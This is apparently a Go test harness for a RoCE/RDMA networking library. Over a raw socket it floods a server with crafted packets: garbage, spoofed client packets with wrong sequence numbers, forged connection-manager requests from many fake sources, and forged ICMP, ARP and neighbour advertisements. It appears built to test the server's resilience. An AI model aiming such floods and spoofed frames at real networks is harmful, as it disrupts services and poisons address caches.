//go:build linux

package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"time"

	"github.com/goroce/roce/bth"
	"github.com/goroce/roce/bth/frame"
	"github.com/goroce/roce/cm"
	"github.com/goroce/roce/link"
	"github.com/goroce/roce/link/raw"
)

const udKey = 0x11111111

// maxSame is how many packets of one source the attacker's driver sends as one super-packet.
const maxSame = 64

// attack is a kind of packets. Function body builds packet n from the BTH on, without the ICRC;
// function wire builds a whole frame.
type attack struct {
	name string
	from func(a *victim, n uint64) netip.Addr // nil: the attacker's own address
	same int                                  // packets in a row of one source address, which may leave as one super-packet; 0: maxSame
	size int                                  // of the body without ICRC
	body func(a *victim, b []byte, n uint64)
	wire func(a *victim, f []byte, n uint64) // fills a frame of size bytes after the Ethernet header
}

// victim has the data from which an attack builds its packets.
type victim struct {
	Target
	rng *rand.Rand
	own frame.MAC
}

const (
	sendSize = bth.BTHLen + 64
	madSize  = bth.BTHLen + bth.DETHLen + cm.MADLen
)

// attacks are the attacks, in order. Packets with the client's address have a PSN other than the expected one,
// because the server cannot distinguish an attacker that sends the right PSN from the peer.
var attacks = []attack{
	{name: "nothing", size: 0},
	{name: "garbage to port 4791", size: sendSize, body: func(a *victim, b []byte, _ uint64) {
		for i := 0; i+8 <= len(b); i += 8 {
			binary.NativeEndian.PutUint64(b[i:], a.rng.Uint64())
		}
	}},
	{name: "queue pairs that are none", size: sendSize, body: func(a *victim, b []byte, n uint64) {
		bth.PutBTH(b, bth.RCSendOnly, bth.AckReq, 0, bth.DefaultPKey, a.QPN+1+bth.QPN(n%1000), bth.PSN(n))
	}},
	{name: "stranger, PSN that is due", size: sendSize, body: func(a *victim, b []byte, n uint64) {
		put(b, a, bth.RCSendOnly, a.PSN.Add(int(n/32)&0xFFFF))
	}},
	{name: "stranger, any PSN", size: sendSize, body: func(a *victim, b []byte, n uint64) {
		put(b, a, bth.RCSendOnly, bth.PSN(n))
	}},
	{name: "stranger, acknowledgements", size: bth.BTHLen + bth.AETHLen, body: func(a *victim, b []byte, n uint64) {
		put(b, a, bth.RCAck, bth.PSN(n/32))
		bth.PutAETH(b[bth.BTHLen:], bth.NAKRemoteAccess, 0)
	}},
	{name: "client's address, PSN of the past", from: fromClient, size: sendSize, body: func(a *victim, b []byte, n uint64) {
		put(b, a, bth.RCSendOnly, a.PSN.Add(-1-int(n&0xFFFFF)))
	}},
	{name: "client's address, PSN of the future", from: fromClient, size: sendSize, body: func(a *victim, b []byte, n uint64) {
		put(b, a, bth.RCSendOnly, a.PSN.Add(1<<22+int(n&0xFFFFF)))
	}},
	{name: "REQ, one source", size: madSize, body: func(a *victim, b []byte, n uint64) { putREQ(a, b, n, attackerIP) }},
	{name: "REQ, many sources", from: fromMany, same: 4, size: madSize, body: func(a *victim, b []byte, n uint64) { putREQ(a, b, n, fromMany(a, n)) }},
	{name: "REQ with the client's GUID and queue pair", size: madSize, body: func(a *victim, b []byte, n uint64) {
		r := req(a, n, attackerIP)
		r.LocalGUID, r.QPN = cm.GUID(a.GUID), a.PeerQPN
		putMAD(b, r)
	}},
	{name: "SIDR REQ", size: madSize, body: func(a *victim, b []byte, n uint64) {
		putMAD(b, &cm.SIDRREQ{RequestID: cm.CommID(n + 1), PKey: bth.DefaultPKey, ServiceID: cm.Service(cm.PortSpaceUDP, uint16(7472+n%2))})
	}},
	{name: "MADs of every kind", from: fromMany, same: 4, size: madSize, body: func(a *victim, b []byte, n uint64) { putMAD(b, anyMAD(a, n)) }},
	{name: "UD to a queue pair without receives", size: bth.BTHLen + bth.DETHLen + 64, body: func(a *victim, b []byte, n uint64) {
		bth.PutBTH(b, bth.UDSendOnly, 0, 0, bth.DefaultPKey, a.UD, bth.PSN(n))
		bth.PutDETH(b[bth.BTHLen:], udKey, 0x66)
	}},
	{name: "forged ICMP: fragmentation needed", size: 20 + 8 + 28, wire: putICMP},
	{name: "forged ARP of many hosts", size: 28 + 18, wire: putARP},
	{name: "forged neighbour advertisements", size: 40 + 32, wire: putND},
}

func fromClient(a *victim, _ uint64) netip.Addr { return a.Client }

// fromMany returns one of 65536 addresses.
func fromMany(_ *victim, n uint64) netip.Addr {
	return netip.AddrFrom4([4]byte{10, 91, byte(n >> 10), byte(n >> 2)})
}

func put(b []byte, a *victim, op bth.Opcode, psn bth.PSN) {
	bth.PutBTH(b, op, bth.AckReq, 0, bth.DefaultPKey, a.QPN, psn)
}

func putMAD(b []byte, m cm.Message) {
	bth.PutBTH(b, bth.UDSendOnly, bth.MigReq, 0, bth.DefaultPKey, bth.QPNGSI, 1)
	bth.PutDETH(b[bth.BTHLen:], bth.QKeyGSI, bth.QPNGSI)
	m.Put((*[cm.MADLen]byte)(b[bth.BTHLen+bth.DETHLen:]))
}

// req returns a valid connection request with a long response timeout.
func req(a *victim, n uint64, from netip.Addr) *cm.REQ {
	r := &cm.REQ{LocalID: cm.CommID(n + 1), LocalGUID: cm.GUID(n + 1), QPN: bth.QPN(n+2) & bth.PSNMask, PKey: bth.DefaultPKey, MTU: bth.MTU1024,
		ServiceID: cm.Service(cm.PortSpaceTCP, 7471), LocalResponseTimeout: 24, MaxCMRetries: 15, ResponderResources: 4, InitiatorDepth: 4,
		Primary: cm.Path{LocalGID: bth.GIDFrom(from), RemoteGID: bth.GIDFrom(serverIP), HopLimit: 64, AckTimeout: 17}}
	h := cm.IPHeader{SrcPort: 1, Src: from, Dst: serverIP}
	if err := h.Put(r.Private[:]); err != nil {
		panic(err) // both are IPv4
	}
	return r
}

func putREQ(a *victim, b []byte, n uint64, from netip.Addr) { putMAD(b, req(a, n, from)) }

// anyMAD returns messages of all kinds in turn, with guessed identifiers.
func anyMAD(a *victim, n uint64) cm.Message {
	local, remote := cm.CommID(n+1), cm.CommID(a.rng.Uint32())
	switch n % 11 {
	case 0:
		return &cm.REP{LocalID: local, RemoteID: remote, QPN: bth.QPN(n & bth.PSNMask)}
	case 1:
		return &cm.RTU{LocalID: local, RemoteID: remote}
	case 2:
		return &cm.REJ{LocalID: local, RemoteID: remote}
	case 3:
		return &cm.DREQ{LocalID: local, RemoteID: remote, RemoteQPN: a.QPN}
	case 4:
		return &cm.DREP{LocalID: local, RemoteID: remote}
	case 5:
		return &cm.MRA{LocalID: local, RemoteID: remote, ServiceTimeout: 31}
	case 6:
		return &cm.LAP{LocalID: local, RemoteID: remote, RemoteQPN: a.QPN}
	case 7:
		return &cm.APR{LocalID: local, RemoteID: remote}
	case 8:
		return &cm.SIDRREQ{RequestID: local, PKey: bth.DefaultPKey, ServiceID: cm.Service(cm.PortSpaceUDP, 7472)}
	case 9:
		return &cm.SIDRREP{RequestID: remote}
	}
	return req(a, n, fromMany(a, n))
}

// attacker sends the packets.
type attacker struct{ port link.Port }

func (k *attacker) close() {
	if k.port != nil {
		k.port.Close()
	}
}

// Attack describes the packets of an attack, their target, and the duration.
type Attack struct {
	Name   string
	Time   time.Duration
	Target Target
}

// Attack sends the packets of an attack as fast as it can, and returns how many it has sent.
func (k *attacker) Attack(c Attack, sent *uint64) (err error) {
	if k.port == nil {
		if k.port, err = raw.Open(raw.Config{Interface: device}); err != nil {
			return err
		}
	}
	i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == c.Name })
	if i < 0 {
		return fmt.Errorf("no attack %q", c.Name)
	}
	*sent, err = k.flood(attacks[i], c)
	return err
}

// flood sends until the time is over.
func (k *attacker) flood(t attack, c Attack) (sent uint64, err error) {
	a := &victim{Target: c.Target, rng: rand.New(rand.NewPCG(1, 2)), own: k.port.Info().MAC}
	end := time.Now().Add(c.Time)
	if t.size == 0 {
		time.Sleep(c.Time)
		return 0, nil
	}
	var path *frame.Path
	var last netip.Addr
	for time.Now().Before(end) {
		for range 64 {
			from := attackerIP
			if t.from != nil {
				from = t.from(a, sent)
			}
			if path == nil || from != last {
				last = from
				if path, err = frame.NewPath(frame.PathConfig{Src: bth.GIDFrom(from), Dst: bth.GIDFrom(serverIP), SrcMAC: a.own,
					DstMAC: a.ServerMAC, SrcPort: 0xC000, HopLimit: 64}); err != nil {
					return sent, err
				}
			}
			if err := k.send(t, a, path, sent); err != nil {
				return sent, err
			}
			sent++
		}
		if err := k.port.Flush(); err != nil {
			return sent, err
		}
	}
	// An error of Flush means that the device did not take the packets.
	return sent, k.port.Flush()
}

// send queues packet n.
func (k *attacker) send(t attack, a *victim, path *frame.Path, n uint64) error {
	size := t.size + bth.ICRCLen
	if t.wire != nil { // wire overwrites the envelope
		const ethernet = 14
		size = max(t.size+ethernet-path.HeaderLen(frame.LayoutEthernet), 0)
	}
	body, crc, ok := k.port.Begin(path, size)
	for !ok {
		if err := k.port.Flush(); err != nil {
			return err
		}
		if err := k.port.Wait(time.Second); err != nil {
			return err
		}
		body, crc, ok = k.port.Begin(path, size)
	}
	if t.wire != nil {
		t.wire(a, k.port.Lent(), n)
	} else {
		t.body(a, body[:t.size], n)
		bth.PutICRC(body[t.size:], crc.UpdateBTH(body[:bth.BTHLen]).Update(body[bth.BTHLen:t.size]))
	}
	k.port.Commit()
	return nil
}
